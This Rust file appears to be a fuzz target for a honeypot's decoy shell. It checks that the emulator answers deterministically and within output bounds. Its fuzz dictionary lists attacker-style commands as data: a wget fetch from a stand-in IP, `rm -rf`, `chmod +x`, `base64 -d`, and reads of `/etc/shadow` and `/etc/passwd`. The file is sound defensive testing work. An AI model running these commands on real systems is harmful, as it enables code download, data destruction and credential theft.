//! The shell: lines at a prompt, then all of them as one command.

use decoys::shell::{Shell, ShellFlow, ShellOutput};
use model::{PersonaAccount, SessionFact};

use super::{
    Target,
    safe::assert_fact,
    visit::{START, peer, persona},
};
use crate::Trace;

/// Lines; all of them are also run at once by `exec`.
pub(super) const TARGET: Target = Target {
    name: "shell",
    about: "the shell: any lines, bounded and the same again",
    words: &[
        "$(",
        ")",
        "`",
        "${",
        "}",
        "$((",
        "))",
        "<<EOF\n",
        "EOF\n",
        "<(",
        ">",
        ">>",
        "<",
        "2>&1",
        "|",
        "||",
        "&&",
        "&",
        ";",
        ";;",
        "'",
        "\"",
        "\\",
        "\n",
        "#",
        "*",
        "?",
        "[a-z]",
        "{1..9}",
        "~",
        "if true; then ",
        "; fi\n",
        "for i in 1 2; do ",
        "; done\n",
        "while true; do ",
        "case x in ",
        "esac\n",
        "f() { ",
        "; }\n",
        "! ",
        "echo ",
        "printf '%s' ",
        "cat ",
        "cd ",
        "ls -la ",
        "rm -rf ",
        "wget http://198.51.100.9/x ",
        "curl -O ",
        "chmod +x ",
        "base64 -d ",
        "head -c ",
        "tail -n ",
        "grep -r ",
        "sed 's/a/b/g' ",
        "awk '{print $1}' ",
        "find / -name ",
        "xargs ",
        "sort -u ",
        "tr ",
        "cut -d: -f1 ",
        "wc -l ",
        "dd if=/dev/zero of=x bs=1M count=9 ",
        "tar ",
        "export A=",
        "$A",
        "${A:-x}",
        "${#A}",
        "${A%%*}",
        "${A//a/b}",
        "${A:1:2}",
        "$?",
        "$!",
        "$$",
        "$@",
        "$RANDOM",
        "sh -c ",
        "eval ",
        "source ",
        "su -",
        "sudo -i\n",
        "passwd\n",
        "exit\n",
        "history\n",
        "ps aux\n",
        "/proc/cpuinfo",
        "/etc/passwd",
        "/etc/shadow",
        "/dev/null",
        "/dev/zero",
        "/dev/urandom",
        "/tmp/",
        "../",
        "-",
        "--help",
        "ln -s ",
        "yes ",
        "seq 1 ",
        "test ",
        "[ ",
        " ]",
        "[[ ",
        " ]]",
        "date +%s\n",
        "crontab -l\n",
        "uname -a\n",
        "id\n",
        "w\n",
        "netstat -an\n",
        "ip a\n",
        "df -h\n",
    ],
    mutation: None,
    run,
};

/// As `shell/limits.rs` documents them: one line on a terminal, one pipe.
const MAX_SHOWN_BYTES: usize = 256 << 10;
const MAX_PIPE_BYTES: usize = 4 << 20;
/// `logout` below the last line.
const MAX_GOODBYE_BYTES: usize = 64;
/// Lines that one input types.
const MAX_LINES: usize = 64;
const MAX_FACTS: usize = 256;
const STDIN: &[u8] = b"first\nsecond line\n\xff\xfe\n";

/// What came of one conversation.
#[derive(Default, PartialEq, Eq, Debug)]
struct Said {
    shown: Vec<Vec<u8>>,
    facts: Vec<SessionFact>,
    output: ShellOutput,
    status: u8,
}

fn run(input: &[u8], trace: &mut Trace) {
    let text = String::from_utf8_lossy(input);
    let said = talk(&text, input.len());
    assert!(said == talk(&text, input.len()), "the same shell answers the same");
    for line in said.shown.iter().flat_map(|shown| shown.split(|b| *b == b'\n')).take(512) {
        trace.note_text(line);
    }
    for stream in [&said.output.stdout, &said.output.stderr] {
        stream.split(|b| *b == b'\n').take(256).for_each(|line| trace.note_text(line));
    }
    said.facts.iter().for_each(|fact| trace.note(assert_fact(fact)));
    trace.note(said.status);
}

fn talk(text: &str, number: usize) -> Said {
    let mut said = Said::default();
    let persona = persona(number);
    let account: &PersonaAccount = &persona.accounts[number % persona.accounts.len()];
    let mut shell = Shell::new(persona.clone(), account, peer().ip(), START, [5; 32]);
    said.shown.push(shell.greeting(START).into_bytes());
    for line in text.lines().take(MAX_LINES) {
        said.shown.push(shell.prompt().into_bytes());
        let mut out = Vec::new();
        let flow = shell.run_line(START, line, &mut out);
        assert!(out.len() <= MAX_SHOWN_BYTES + MAX_GOODBYE_BYTES, "{} bytes shown", out.len());
        said.shown.push(out);
        take_facts(&mut shell, &mut said);
        if flow != ShellFlow::Continue {
            break;
        }
    }
    let mut shell = Shell::new(persona.clone(), account, peer().ip(), START, [5; 32]);
    said.status = shell.exec(START, text, STDIN, &mut said.output);
    assert!(said.output.stdout.len() <= MAX_PIPE_BYTES, "{} bytes", said.output.stdout.len());
    assert!(said.output.stderr.len() <= MAX_PIPE_BYTES, "{} bytes", said.output.stderr.len());
    take_facts(&mut shell, &mut said);
    said
}

fn take_facts(shell: &mut Shell, said: &mut Said) {
    let facts = shell.take_facts();
    assert!(facts.len() <= MAX_FACTS, "{} facts of one line", facts.len());
    said.facts.extend(facts);
}
